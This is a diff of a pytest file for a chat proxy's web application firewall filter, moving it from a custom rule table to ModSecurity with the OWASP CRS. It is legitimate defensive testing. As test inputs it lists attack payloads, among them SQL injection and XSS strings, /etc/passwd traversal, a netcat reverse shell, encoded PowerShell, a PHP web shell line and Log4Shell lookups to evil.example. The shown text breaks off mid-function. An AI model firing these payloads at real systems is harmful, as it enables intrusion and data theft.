@@ -1,48 +1,67 @@
-"""The built-in filter kind ``waf``: its rule table and transformations on constructed
-request heads, anomaly scoring (threshold, paranoia levels, disable_rules), body and
-WebSocket message inspection, the log line, build-time option errors (directly and
-through the configuration loader), quality floors on the attack / benign-chat corpus
-(tests/waf_corpus, measured by bench/waf/measure.py), and the filter in a real
-``twistd -n chatproxy`` process with real clients."""
+"""The built-in filter kind ``waf``: ModSecurity v3 (Debian's libmodsecurity3) running
+the OWASP CRS (Debian's modsecurity-crs).  Its ModSecurity configuration written from
+the options, exclusions, the engine's answers turned into verdicts, requests, bodies
+(url-encoded, JSON, multipart with CRLF or LF, XML) and WebSocket messages inspected,
+report mode, the access-log note and the metrics, build-time errors naming the option
+(directly and through the configuration loader), the false-positive guard on the
+benign chat corpus (tests/waf_corpus, measured by bench/waf/measure.py), and the filter
+in a real ``twistd -n chatproxy`` process with real clients."""
 
 from __future__ import annotations
 
+import hashlib
 import importlib.util
 import json
+import os
 import sys
+import time
+import urllib.request
+from ctypes.util import find_library
 from pathlib import Path
 from typing import Any
 from urllib.parse import quote
 
 import pytest
+from twisted.internet import defer
 from twisted.logger import Logger, formatEvent
 
 from chatproxy.config import ConfigError, load_config
-from chatproxy.proxy.validate import validate
-from chatproxy.filters import CloseSession, FilterOptionError, IFilterFactory, IRequestFilter, Refuse, installed_filter_kinds
-from chatproxy.filters import waf as waf_module
-from chatproxy.filters import waf_rules
+from chatproxy.filters import DROP, CloseSession, FilterOptionError, IFilterFactory, IRequestFilter, Refuse
+from chatproxy.filters import installed_filter_kinds
+from chatproxy.filters.chain import RouteFilter
+from chatproxy.filters.crs import DEFAULT_CRS, find_crs
+from chatproxy.filters.modsecurity import EngineMissing, ModSecurity, Outcome
 from chatproxy.filters.waf import BLOCKED, WebApplicationFirewall, waf
-from chatproxy.filters.waf_rules import RULES, RULES_BY_ID, Value
+from chatproxy.filters.waf_results import announces_body, message_transaction, parse_message, request_transaction
+from chatproxy.filters.waf_results import verdict
+from chatproxy.filters.waf_setup import SCORE_RULE, Exclusion, WafSettings, crs_setup, engine_setup, exclusions
+from chatproxy.filters.waf_setup import parse_exclusion
 from chatproxy.http.messages import RequestHead
-from chatproxy.testing import request_head
+from chatproxy.proxy.validate import validate
+from chatproxy.testing import ChainRunner, build_filter, request_head, websocket_head
 from conftest import free_port, wait_for_port
 from test_filters_basic import WsUpstream, config, listen, log_line, send, ws_upstream  # noqa: F401 (fixture)
 
 ROOT = Path(__file__).resolve().parents[1]
-HAVE_LIBINJECTION = waf_rules.libinjection() is not None
+HAVE_ENGINE = find_library("modsecurity") is not None
+HAVE_CRS = Path(DEFAULT_CRS, "rules").is_dir()
+if not (HAVE_ENGINE and HAVE_CRS):
+    if os.environ.get("CI"):
+        raise RuntimeError("the waf tests need Debian's libmodsecurity3 and modsecurity-crs (.ci/run installs them)")
+    pytest.skip("Debian's libmodsecurity3 and modsecurity-crs are not installed", allow_module_level=True)
 
 
-def _load_measure() -> Any:
-    spec = importlib.util.spec_from_file_location("waf_measure", ROOT / "bench" / "waf" / "measure.py")
+def load_bench(script: str) -> Any:
+    """bench/waf/SCRIPT.py as the module ``waf_SCRIPT`` (bench/ is no package)."""
+    spec = importlib.util.spec_from_file_location(f"waf_{script}", ROOT / "bench" / "waf" / f"{script}.py")
     assert spec is not None and spec.loader is not None
     module = importlib.util.module_from_spec(spec)
-    sys.modules["waf_measure"] = module
+    sys.modules[f"waf_{script}"] = module
     spec.loader.exec_module(module)
     return module
 
 
-measure = _load_measure()
+measure = load_bench("measure")
 
 BROWSER = [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"),
            ("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
@@ -51,11 +70,17 @@ BROWSER = [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100
 
 
 def make_head(query: str = "", headers: list[tuple[str, str]] | None = None, path: str = "/prweb/chat",
-              method: str = "GET", host: str = "chat.example.com", target: str | None = None) -> RequestHead:
-    """A request head as the proxy builds it: browser headers unless ``headers`` is given,
-    Host added."""
-    return request_head(target, method=method, path=path, query=query,
-                        headers=BROWSER if headers is None else headers, host=host)
+              method: str = "GET", **fields: Any) -> RequestHead:
+    """A request head as the proxy builds it: browser headers unless ``headers`` is given."""
+    return request_head(None, method=method, path=path, query=query,
+                        headers=BROWSER if headers is None else headers, host="chat.example.com", route="chat",
+                        **fields)
+
+
+def post_head(content_type: str, length: int, path: str = "/prweb/chat") -> RequestHead:
+    """A POST head announcing a body of ``length`` bytes of ``content_type``."""
+    return make_head(method="POST", path=path, headers=BROWSER + [("Content-Type", content_type),
+                                                                  ("Content-Length", str(length))])
 
 
 def q(value: str, name: str = "q") -> str:
@@ -63,542 +88,548 @@ def q(value: str, name: str = "q") -> str:
     return f"{name}={quote(value, safe='')}"
 
 
-def ids(inspection: Any) -> set[int]:
-    """The matched rule ids of an Inspection."""
-    return set(inspection.rule_ids)
+def inline(work: Any) -> defer.Deferred[Any]:
+    """An offload that runs the work at once (no reactor in unit tests)."""
+    return defer.succeed(work())
 
 
-PURE = WebApplicationFirewall(use_libinjection=False)
+def settled(result: Any) -> Any:
+    """What a hook decided: the value of its (already fired) Deferred, or the value."""
+    if not isinstance(result, defer.Deferred):
+        return result
+    found: list[Any] = []
+    result.addBoth(found.append)
+    assert found, "the hook's Deferred has not fired"
+    return found[0]
+
+
+class Settled:
+    """A built waf whose transactions run at once (``inline``) and whose hooks give
+    their decisions, not Deferreds; every other attribute is the filter's."""
+
+    def __init__(self, flt: WebApplicationFirewall) -> None:
+        self.flt = flt
+        flt.offload = inline
+
+    def __getattr__(self, name: str) -> Any:
+        return getattr(self.flt, name)
+
+    def request(self, head: RequestHead) -> Any:
+        """The request hook's decision."""
+        return settled(self.flt.request(head))
+
+    def request_body(self, head: RequestHead, body: bytes, complete: bool = True) -> Any:
+        """The body hook's decision."""
+        return settled(self.flt.request_body(head, body, complete))
+
+    def message(self, head: RequestHead, payload: bytes, binary: bool, upward: bool) -> Any:
+        """The message hook's verdict."""
+        return settled(self.flt.message(head, payload, binary, upward))
+
+
+def build(options: dict[str, str] | None = None) -> Any:
+    """``waf.build(options)``, its hooks settled at once (see :class:`Settled`)."""
+    return Settled(waf.build(options or {}))
+
+
+@pytest.fixture(scope="module")
+def firewall() -> Any:
+    """The waf with its defaults (paranoia 1, threshold 5), built once for the module."""
+    return build()
 
 
 # ---------------------------------------------------------------------------
-# Registration
+# Registration and the rules it loads
 
 
-def test_waf_is_an_installed_plugin():
+def test_waf_is_an_installed_plugin(firewall):
     """``waf`` is found by getPlugins under its name, provides IFilterFactory, and
-    builds (with no options at all) an object providing IRequestFilter with the
-    documented defaults."""
-    kinds = installed_filter_kinds()
-    assert kinds["waf"] is waf
-    assert IFilterFactory.providedBy(waf)
-    built = waf.build({})
-    assert IRequestFilter.providedBy(built)
-    assert (built.paranoia, built.threshold, built.inspect_body_bytes, built.disabled) == (1, 5, 65536, frozenset())
-    assert built.libinjection is HAVE_LIBINJECTION
+    builds (with no options) an object providing IRequestFilter with the documented
+    defaults: paranoia 1, inbound threshold 5, 64 KiB of bodies and of messages,
+    over_limit pass, the CRS from Debian's package, ModSecurity from libmodsecurity3."""
+    assert installed_filter_kinds()["waf"] is waf
+    assert IFilterFactory.providedBy(waf) and IRequestFilter.providedBy(firewall.flt)
+    assert (firewall.paranoia, firewall.threshold, firewall.inspect_body_bytes, firewall.inspect_message_bytes,
+            firewall.over_limit) == (1, 5, 65536, 65536, "pass")
+    assert firewall.crs.rules_dir == f"{DEFAULT_CRS}/rules"
+    assert firewall.engine.version.startswith("ModSecurity v3.")
 
 
-def test_rule_table_is_well_formed():
-    """Every rule has a unique id in a CRS range matching its category, a message,
-    a severity with its CRS score and a paranoia level from 1 to 4."""
-    ranges = {"sqli": ("942",), "xss": ("941",), "lfi": ("930", "933"), "rce": ("932", "933", "934", "944"),
-              "protocol": ("920", "921", "200")}
-    assert len(RULES_BY_ID) == len(RULES)
-    for r in RULES:
-        assert str(r.id)[:3] in ranges[r.category], r.id
-        assert r.message and 1 <= r.paranoia <= 4
-        assert r.score == {"critical": 5, "error": 4, "warning": 3, "notice": 2}[r.severity]
-
-
-# ---------------------------------------------------------------------------
-# Transformations
-
-
-@pytest.mark.parametrize("transform, raw, expected", [
-    ("decoded", "%2527%20or%201%3d1", "' or 1=1"),  # double encoding
-    ("decoded", "%u0027 or 1=1", "' or 1=1"),  # IIS %u form
-    ("decoded", "..%c0%af..%c0%afetc", "../../etc"),  # overlong UTF-8
-    ("decoded", "%uff1cscript%uff1e", "<script>"),  # full width, NFKC-folded
-    ("decoded", "50% off", "50% off"),  # a lone % stays
-    ("html", "&lt;ScRiPt&gt;", "<script>"),
-    ("html", "&amp;lt;img&amp;gt;", "<img>"),
-    ("html", "&#106;&#97;&#118;&#97;", "java"),
-    ("html", "\\u003cscript\\u003e", "<script>"),
-    ("html_tight", "jav&#x09;ascript:alert(1)", "javascript:alert(1)"),
-    ("sql", "1'/**/UNION/**/SELECT", "1' union select"),
-    ("sql", "1 /*!50000UNION*/ SELECT", "1 union select"),
-    ("cmd", "c'a't /etc/pa''sswd", "cat /etc/passwd"),
-    ("cmd", "cat$IFS/etc/passwd", "cat /etc/passwd"),
-    ("cmd", "{cat,/etc/passwd}", "cat /etc/passwd"),
-    ("path", "..\\..\\Windows\\win.ini", "../../windows/win.ini"),
-    ("path", "/etc/./passwd", "/etc/passwd"),
-    ("path", "/etc//passwd", "/etc/passwd"),
-    ("path", "..%u2215..%u2215etc", "../../etc"),
-    ("path", "file.php%00.jpg", "file.php.jpg"),
-])
-def test_transformations(transform, raw, expected):
-    """The CRS-style transformations a rule matches on: repeated URL decoding (incl.
-    %u and overlong UTF-8), HTML entity and JS escape decoding, SQL comment removal,
-    shell de-obfuscation, and path normalisation without resolving ``..``."""
-    assert Value(raw).get(transform) == expected
+def test_every_crs_rule_file_is_loaded():
+    """All of the package's rules/*.conf are loaded, REQUEST-910 (IP reputation,
+    GeoIP) included, and their ids are known (for exclusions)."""
+    crs = find_crs()
+    names = [Path(f).name for f in crs.files]
+    assert "REQUEST-910-IP-REPUTATION.conf" in names and "REQUEST-942-APPLICATION-ATTACK-SQLI.conf" in names
+    assert names == sorted(names)
+    assert {942100, 941100, 930120, 932100, 944100, 913100, 943100, 949110}.issubset(crs.rule_ids)
 
 
 # ---------------------------------------------------------------------------
-# The rule table on requests
+# The configuration written from the options (no engine)
 
 
-# (query value, rule ids expected among the matches); every one is refused at paranoia 1.
-ATTACK_CASES = [
-    ("' or '1'='1", {942180}),
-    ("1 or 1=1", {942330}),
-    ("admin'--", {942260}),
-    ("1' UNION/**/SELECT username,password FROM users--", {942270, 942370}),
-    ("1; DROP TABLE users", {942350}),
-    ("' and sleep(5)--", {942160}),
-    ("' union select table_name from information_schema.tables--", {942140}),
-    ("1 /*!UNION*/ /*!SELECT*/ 1,2", {942500}),
-    ("'; exec master..xp_cmdshell 'dir'--", {942190}),
-    ('{"$ne": null}', {942290}),
-    ("' into outfile '/var/www/x.php'--", {942360}),
-    ("1' order by 10--", {942380}),
-    ("' AND extractvalue(1,concat(0x7e,version()))--", {942151}),
-    ("<script>alert(1)</script>", {941110}),
-    ("<img src=x onerror=alert(1)>", {941120, 941160}),
-    ('<a href="jav&#x09;ascript:alert(1)">x</a>', {941170}),
-    ("<svg><a xlink:href=\"javascript:alert(1)\">", {941130}),
-    ("<div style=\"width: expression(alert(1))\">", {941140}),
-    ("document.cookie", {941180}),
-    ("+ADw-script+AD4-alert(1)", {941350}),
-    ("window['alert'](1)", {941370}),
-    ("{{constructor.constructor('alert(1)')()}}", {941380}),
-    ("setTimeout('alert(1)',0)", {941390}),
-    ("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", {941901}),
-    ("%3Cscript%3Ealert(1)%3C/script%3E", {941110}),  # double-encoded on the wire
-    ("..%2f..%2f..%2fetc%2fpasswd", {930100}),
-    ("../../../../etc/passwd", {930110, 930120}),
-    ("..\\..\\..\\windows\\win.ini", {930110, 930120}),
-    ("/proc/self/environ", {930120}),
-    ("../../.env", {930130}),
-    ("php://filter/convert.base64-encode/resource=index.php", {933200}),
-    ("; cat /etc/passwd", {932100}),
-    ("| nc -e /bin/sh 10.0.0.1 4444", {932100, 932160}),
-    ("& type C:\\Windows\\win.ini", {932110}),
-    ("powershell -nop -w hidden -enc SQBFAFgA", {932120}),
-    (";cat$IFS/etc/passwd", {932130}),
-    ("() { :; }; /bin/bash -c id", {932170}),
-    ("<?php system($_GET['c']); ?>", {933100, 933130, 933160}),
-    ('O:8:"Exploit":1:{s:4:"code";s:2:"id";}', {933170}),
-    ("require('child_process').exec('id')", {934100}),
-    ("__proto__[isAdmin]=true", {934130}),
-    ("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", {934900}),
-    ("__import__('os').system('id')", {934910}),
-    ("java.lang.Runtime.getRuntime().exec(\"id\")", {944100}),
-    ("class.module.classLoader.resources.context.parent", {944110}),
-    ("%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", {944130}),
-    ("${${lower:j}ndi:${lower:l}dap://evil.example/a}", {944150}),
-    ("x\r\nSet-Cookie: admin=1", {921130}),
-    ("x\r\n\r\nHTTP/1.1 200 OK", {921130, 921120}),
-    ("\u560a\u560dSet-Cookie: x=1", {921130}),  # low-byte CR/LF
-    ("file.php\x00.jpg", {920270}),
-    ("x\x1b[2Jcleared", {920271}),
-]
+def test_crs_setup_from_options():
+    """chatproxy's crs-setup: paranoia level under CRS 3's and CRS 4's names, both
+    anomaly thresholds, the setup version CRS checks for; allowed methods and
+    content types only when the options set them."""
+    text = crs_setup(WafSettings(paranoia=3, inbound_threshold=10, outbound_threshold=8))
+    assert "setvar:tx.paranoia_level=3" in text and "setvar:tx.blocking_paranoia_level=3" in text
+    assert "tx.inbound_anomaly_score_threshold=10" in text and "tx.outbound_anomaly_score_threshold=8" in text
+    assert "tx.crs_setup_version=" in text
+    assert "allowed_methods" not in text and "allowed_request_content_type" not in text
+    text = crs_setup(WafSettings(allowed_methods=("GET", "POST"), allowed_content_types=("application/json",)))
+    assert "'tx.allowed_methods=GET POST'" in text
+    assert "'tx.allowed_request_content_type=|application/json|'" in text
 
 
-@pytest.mark.parametrize("value, expected", ATTACK_CASES)
-def test_attack_in_a_query_value_is_refused(value, expected):
-    """At paranoia 1 (without libinjection), the payload as a query value is refused
-    with 403 and the expected rules are among those that matched."""
-    head = make_head(q(value))
-    assert expected <= ids(PURE.inspect_request(head)), PURE.inspect_request(head).rule_ids
-    decision = PURE.request(head)
-    assert isinstance(decision, Refuse) and (decision.status, decision.reason) == (403, BLOCKED)
+def test_engine_setup_and_exclusions():
+    """The engine reads bodies up to the inspection limit (not at all with 0), turns on
+    the JSON and XML body processors; exclusions become SecRuleRemoveById and
+    SecRuleUpdateTargetById; the score rule logs in phase 5."""
+    text = engine_setup(WafSettings(inspect_body_bytes=1024))
+    assert "SecRequestBodyAccess On" in text and "SecRequestBodyLimit 1024" in text
+    assert "ctl:requestBodyProcessor=JSON" in text and "ctl:requestBodyProcessor=XML" in text
+    assert "SecRequestBodyAccess Off" in engine_setup(WafSettings(inspect_body_bytes=0))
+    text = exclusions(WafSettings(exclusions=(Exclusion(920350), Exclusion(942100, "ARGS:json.text"))))
+    assert "SecRuleRemoveById 920350" in text
+    assert 'SecRuleUpdateTargetById 942100 "!ARGS:json.text"' in text
+    text = exclusions(WafSettings(exclusions=(Exclusion(None, None, "attack-xss"),
+                                              Exclusion(None, "ARGS:message", "attack-sqli"))))
+    assert 'SecRuleRemoveByTag "attack-xss"' in text and 'SecRuleUpdateTargetByTag "attack-sqli" "!ARGS:message"' in text
+    assert f"id:{SCORE_RULE},phase:5" in text
 
 
-BENIGN_CASES = [
-    "Hi, I'd like to check the status of my order please",
-    "My name is Siobhán O'Brien, order #A-10234",
-    "I have 2 or 3 questions about the invoice",
-    "Is it 'red' or 'blue' that you have in stock?",
-    "Please select the premium plan; I want to drop the old one",
-    "The union of both accounts would be ideal",
-    "I saved it to C:\\Users\\marie\\Documents\\invoice.pdf",
-    "Step 1: open the app; step 2: tap settings; find the key",
-    "Tom & Jerry DVD set, AT&T is my provider",
-    "Our code does if (order.total > 100) { applyDiscount(); }",
-    "The email shows raw HTML like <p>Dear customer,</p><br> at the top",
-    "In the template I wrote {{ order.number }} and it isn't replaced",
-    "Go to Settings --> Notifications --> turn off",
-    "Password must contain one of !@#$%^&*",
-    "こんにちは、注文した商品がまだ届きません。",
-    "esc:Hi,\nI have two questions:\n1) where is my order",
-    "https://shop.example.com/orders/45512?ref=email&utm_source=newsletter",
-]
-
-
-@pytest.mark.parametrize("value", BENIGN_CASES)
-def test_benign_chat_in_a_query_value_passes(value):
-    """Ordinary chat text (quotes, SQL and shell words, symbols, HTML-ish text,
-    non-Latin scripts, line breaks) as a query value passes at paranoia 1, with
-    and without libinjection."""
-    value = measure.unescape(value[4:]) if value.startswith("esc:") else value
-    head = make_head(q(value))
-    assert PURE.request(head) is None, PURE.inspect_request(head).rule_ids
-    assert waf.build({}).request(head) is None
-
-
-@pytest.mark.parametrize("kind, head, expected", [
-    ("path (encoded, double-encoded)", make_head(target="/static/..%252f..%252fetc/passwd", path="/static/"), 930100),
-    ("path xss", make_head(target="/chat/%3Cscript%3Ealert(1)%3C%2Fscript%3E", path="/chat/"), 941110),
-    ("argument name", make_head(q("1", name="<script>alert(1)</script>")), 941110),
-    ("cookie value", make_head(headers=[("Cookie", "session=' or 1=1--")]), 942180),
-    ("cookie value encoded", make_head(headers=[("Cookie", "pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E")]), 941110),
-    ("custom header", make_head(headers=[("X-Forwarded-Host", "${jndi:ldap://evil.example/a}")]), 944150),
-    ("custom header traversal", make_head(headers=[("X-Original-URL", "/../../etc/passwd")]), 930110),
-    ("user-agent shellshock", make_head(headers=[("User-Agent", "() { :; }; /bin/bash -c 'id'")]), 932170),
-    ("referer xss", make_head(headers=[("Referer", "https://x.example/?q=<script>alert(1)</script>")]), 941110),
+@pytest.mark.parametrize("text, expected", [
+    ("942100", Exclusion(942100)),
+    ("942100 ARGS:message", Exclusion(942100, "ARGS:message")),
+    ("941100 REQUEST_COOKIES:/^_ga/", Exclusion(941100, "REQUEST_COOKIES:/^_ga/")),
+    ("920350  REQUEST_HEADERS:Host", Exclusion(920350, "REQUEST_HEADERS:Host")),
+    ("tag:attack-sqli", Exclusion(None, None, "attack-sqli")),
+    ("tag:paranoia-level/2 ARGS:message", Exclusion(None, "ARGS:message", "paranoia-level/2")),
 ])
-def test_targets_beyond_query_values(kind, head, expected):
-    """The path, argument names, cookie values, custom header values and User-Agent /
-    Referer are inspected at paranoia 1 (for the rules documented for them)."""
-    inspection = PURE.inspect_request(head)
-    assert expected in ids(inspection), (kind, inspection.rule_ids)
-    assert isinstance(PURE.request(head), Refuse)
+def test_parse_exclusion(text, expected):
+    """An exclusion is a rule id or ``tag:TAG``, optionally followed by one ModSecurity target."""
+    assert parse_exclusion(text) == expected
 
 
-def test_excluded_headers_and_user_agent_at_paranoia_1():
-    """Authorization, Accept and the Sec-CH-UA headers are not inspected by attack
-    rules; a User-Agent with SQL syntax is only inspected for SQLi from paranoia 2."""
-    head = make_head(headers=[("Authorization", "Basic ' or 1=1--"), ("Accept", "<script>"),
-                              ("Sec-CH-UA", '"Chromium";v="120", "Not?A_Brand";v="8"'),
-                              ("User-Agent", "sqlmap' or 1=1--")])
-    assert PURE.request(head) is None
-    level2 = WebApplicationFirewall(paranoia=2, use_libinjection=False)
-    assert 942180 in ids(level2.inspect_request(head))
-    assert isinstance(level2.request(head), Refuse)
-
-
-PROTOCOL_CASES = [
-    (920100, dict(method="G\u00c9T")),
-    (920160, dict(headers=[("Content-Length", "12abc")], method="POST")),
-    (920161, dict(headers=[("Content-Length", "5"), ("Content-Length", "5")], method="POST")),
-    (920161, dict(headers=[("Content-Length", "5"), ("Transfer-Encoding", "chunked")], method="POST")),
-    (920170, dict(headers=[("Content-Length", "5"), ("Content-Type", "text/plain")])),
-    (920220, dict(query="q=%zz")),
-    (920311, dict(headers=[("Accept", " "), ("User-Agent", "x")])),
-    (920330, dict(headers=[("User-Agent", "")])),
-    (920340, dict(headers=[("Content-Length", "5")], method="POST")),
-    (920350, dict(host="203.0.113.9")),
-    (920440, dict(path="/backup/site.sql", target="/backup/site.sql")),
-    (920450, dict(headers=[("Proxy", "http://evil.example")])),
-    (920470, dict(headers=[("Content-Type", "text/plain; evil\"stuff"), ("Content-Length", "1")], method="POST")),
-    (920480, dict(headers=[("Content-Type", "text/plain; charset=utf-7"), ("Content-Length", "1")],
-                  method="POST")),
-]
-
-
-@pytest.mark.parametrize("rule_id, head_options", PROTOCOL_CASES)
-def test_request_level_protocol_rules(rule_id, head_options):
-    """Each request-level protocol rule (920xxx) recognises its anomaly in the head
-    (some are refused by the HTTP parser already: the filter checks them anyway)."""
-    inspection = PURE.inspect_request(make_head(**head_options))
-    assert rule_id in ids(inspection), inspection.rule_ids
-
-
-def test_a_clean_browser_request_matches_nothing_at_any_paranoia_level():
-    """A typical browser request with cookies and a chat query matches no rule at
-    paranoia 1 and is not refused at any level."""
-    head = make_head("pyActivity=pzMashupRequest&pzHarnessID=HID6F0E5A1C&AJAXTrackID=3")
-    assert PURE.inspect_request(head).matches == []
-    for level in (1, 2, 3, 4):
-        assert WebApplicationFirewall(paranoia=level, use_libinjection=False).request(head) is None, level
+@pytest.mark.parametrize("text, message", [
+    ("sqli", "'sqli' is not a rule id"),
+    ("942100 args:message", "'args:message' is not a ModSecurity target"),
+    ("942100 ARGS:a ARGS:b", "is not a rule id, 'tag:TAG', or one of them and a target"),
+    ('942100 ARGS:"x"', "is not a ModSecurity target"),
+    ("tag:", "is not a rule tag"),
+    ("tag:'sqli'", "is not a rule tag"),
+])
+def test_parse_exclusion_errors(text, message):
+    """A malformed exclusion is refused with the reason."""
+    with pytest.raises(ValueError, match=message):
+        parse_exclusion(text)
 
 
 # ---------------------------------------------------------------------------
-# Scoring, threshold, paranoia levels, disable_rules
+# The engine's answers (no engine: its log messages as text)
+
+LOGGED = ('ModSecurity: Warning. detected SQLi using libinjection. [file "/usr/share/modsecurity-crs/rules/'
+          'REQUEST-942-APPLICATION-ATTACK-SQLI.conf"] [line "46"] [id "942100"] [rev ""] [msg "SQL Injection Attack '
+          'Detected via libinjection"] [data "Matched Data: s&1c found within ARGS:q: \' or "1"=1--"] [severity "2"] '
+          '[ver "OWASP_CRS/3.3.4"] [maturity "0"] [accuracy "0"] [hostname "127.0.0.1"] [uri "/chat"] '
+          '[unique_id "1"] [ref "v12,10"]')
 
 
-def test_scores_add_up_against_the_threshold():
-    """A single warning (920350, numeric Host: 3) stays below the default threshold;
-    with threshold = 3 it is refused; two warnings (920350 + 920220: 6) reach 5."""
-    one = make_head(host="203.0.113.9")
-    inspection = PURE.inspect_request(one)
-    assert (inspection.rule_ids, inspection.score) == ([920350], 3)
-    assert PURE.request(one) is None
-    assert isinstance(waf.build({"threshold": "3"}).request(one), Refuse)
-    two = make_head("q=100%", host="203.0.113.9")
-    inspection = PURE.inspect_request(two)
-    assert sorted(inspection.rule_ids) == [920220, 920350] and inspection.score == 6
-    assert isinstance(PURE.request(two), Refuse)
+def test_parse_message():
+    """A rule's log message gives its id, message, the target named in its data (quotes
+    inside the data do not cut it short) and the data."""
+    match = parse_message(LOGGED)
+    assert match is not None
+    assert (match.id, match.message, match.target) == (942100, "SQL Injection Attack Detected via libinjection",
+                                                        "ARGS:q")
+    assert match.data == "Matched Data: s&1c found within ARGS:q: ' or \"1\"=1--"
+    assert parse_message("ModSecurity: some notice without an id") is None
 
 
-def test_a_rule_counts_once_however_many_targets_match():
-    """A rule matching three arguments adds its score once (CRS anomaly scoring per rule)."""
-    query = "&".join(q("<script>alert(1)</script>", name=f"a{i}") for i in range(3))
-    inspection = waf.build({"disable_rules": "941100,941160,941390"}).inspect_request(make_head(query))
-    assert inspection.rule_ids == [941110]
-    assert inspection.score == 5
+def test_verdict_takes_the_score_from_chatproxys_rule():
+    """The verdict: the intervention's status, the score logged by chatproxy's score
+    rule (not listed among the matches), each rule once, in order."""
+    score = f'[id "{SCORE_RULE}"] [rev ""] [msg "chatproxy: inbound anomaly score"] [data "10"] [severity "0"]'
+    found = verdict(Outcome(403, (LOGGED, LOGGED, score)))
+    assert (found.status, found.score, found.rule_ids) == (403, 10, (942100,))
+    assert verdict(Outcome(None, ())).rule_ids == ()
 
 
-@pytest.mark.parametrize("value, level", [
-    ("nice if(you can) help", 2),  # 942150 generic SQL function name
-    ("see <b>this</b> please", 3),  # 941330 any tag
-    ("a'b\"c(d)e;f:g", 3),  # 942431 six special characters
-    ("a'b", 4),  # 942432 two special characters (+ 942431 not reached)
+@pytest.mark.parametrize("headers, expected", [
+    ([("Content-Length", "10")], True),
+    ([("Transfer-Encoding", "chunked")], True),
+    ([("Content-Length", "0")], False),
+    ([], False),
+    ([("Content-Length", "10"), ("Upgrade", "websocket")], False),
 ])
-def test_paranoia_levels_gate_rules(value, level):
-    """A value matching only rules of paranoia ``level`` passes below that level and
-    matches from it on."""
-    for paranoia in range(1, 5):
-        firewall = WebApplicationFirewall(paranoia=paranoia, use_libinjection=False)
-        matched = [r for r in firewall.inspect_request(make_head(q(value))).rule_ids]
-        if paranoia < level:
-            assert matched == [], (paranoia, matched)
-        else:
-            assert matched and all(RULES_BY_ID[i].paranoia <= paranoia for i in matched), (paranoia, matched)
+def test_announces_body(headers, expected):
+    """A body follows when the head announces one and asks for no protocol switch."""
+    assert announces_body(request_head(headers=headers)) is expected
 
 
-def test_disable_rules_turns_rules_off():
-    """disable_rules removes rules: with every rule that matches an attack disabled
-    the request passes; the others still apply."""
-    head = make_head(q("admin'--"))
-    matched = PURE.inspect_request(head).rule_ids
-    assert matched == [942260]
-    assert waf.build({"disable_rules": "942260, 942100"}).request(head) is None
-    assert isinstance(waf.build({"disable_rules": "942180"}).request(head), Refuse)
-
-
-def test_libinjection_rules(monkeypatch):
-    """942100/941100 run only when libinjection is installed and enabled; without it
-    the pattern rules alone decide."""
-    head = make_head(q("1' AND 8455=8455 AND 'a'='a"))
-    assert 942100 not in ids(PURE.inspect_request(head))
-    if HAVE_LIBINJECTION:
-        with_lib = WebApplicationFirewall(use_libinjection=True)
-        inspection = with_lib.inspect_request(head)
-        assert 942100 in ids(inspection)
-        assert "fingerprint" in next(m.detail for m in inspection.matches if m.rule.id == 942100)
-    else:
-        with pytest.raises(RuntimeError):
-            WebApplicationFirewall(use_libinjection=True)
-    monkeypatch.setattr(waf_rules, "_libinjection", None)
-    monkeypatch.setattr(waf_rules, "_libinjection_loaded", True)
-    assert waf.build({}).libinjection is False
+def test_message_transaction():
+    """A WebSocket message is a POST to the session's path with the handshake's Host,
+    User-Agent, Accept and Origin (not its cookies): a JSON message as a JSON body, any
+    other text (and JSON cut at the limit) as the url-encoded field ``message``."""
+    head = websocket_head("/chat?sid=1", headers=[("User-Agent", "UA"), ("Cookie", "a=b"), ("Origin", "https://o")])
+    found = message_transaction(head, b'{"text": "hi"}', False)
+    assert (found.method, found.uri, found.body) == ("POST", b"/chat", b'{"text": "hi"}')
+    names = [name.lower() for name, _ in found.headers]
+    assert b"cookie" not in names and {b"user-agent", b"origin", b"content-type"} <= set(names)
+    assert (b"Content-Type", b"application/json") in found.headers
+    assert message_transaction(head, b"50% off & more", False).body == b"message=50%25%20off%20%26%20more"
+    assert message_transaction(head, b'{"text": "hi"}', True).body.startswith(b"message=%7B")
 
 
 # ---------------------------------------------------------------------------
-# Bodies and messages
+# Requests
 
 
-MULTIPART = (b"--XyZ\r\nContent-Disposition: form-data; name=\"message\"\r\n\r\n; cat /etc/passwd\r\n"
-             b"--XyZ\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"../../shell.php\"\r\n"
-             b"Content-Type: text/plain\r\n\r\n<script>not inspected</script>\r\n--XyZ--\r\n")
-
-
-@pytest.mark.parametrize("content_type, body, expected", [
-    ("application/x-www-form-urlencoded", b"name=jane&msg=%27+union+select+1%2C2--", {942270}),
-    ("application/x-www-form-urlencoded; charset=UTF-8", b"msg=Bonjour%2C+j%27ai+une+question", set()),
-    ("application/json", b'{"chat": {"lines": ["hi", "<img src=x onerror=alert(1)>"]}}', {941120}),
-    ("application/json", b'{"<script>alert(1)</script>": 1}', {941110}),  # keys are inspected
-    ("application/vnd.api+json", b'{"q": "../../etc/passwd"}', {930110}),
-    ("application/json", b'{"text": "I\'d like a refund", "n": 5, "ok": true}', set()),
-    ("application/json", b'{"broken": ', {200002}),
-    ("multipart/form-data; boundary=XyZ", MULTIPART, {932100, 930120, 930110}),
-    ("multipart/form-data", MULTIPART, {200002}),  # no boundary
-    ("text/plain", b"hello; cat /etc/passwd", {932100}),
-    ("image/png", b"<script>alert(1)</script>", set()),  # binary types are not inspected
+@pytest.mark.parametrize("query", [
+    q("' or 1=1--"),
+    q("<script>alert(document.cookie)</script>"),
+    q("../../../../etc/passwd", "file"),
+    q("; cat /etc/passwd", "cmd"),
+    q("${jndi:ldap://evil.example/a}"),
 ])
-def test_inspect_body(content_type, body, expected):
-    """inspect_body parses url-encoded fields, JSON keys and string values and
-    multipart field values (and file names, not file contents); a body that does not
-    parse is rule 200002; text bodies are one value; other types are skipped."""
-    inspection = PURE.inspect_body(content_type, body)
-    assert expected <= ids(inspection) if expected else inspection.matches == [], inspection.rule_ids
-    if expected:
-        assert inspection.score >= 5
+def test_attacks_in_the_query_are_refused(firewall, query):
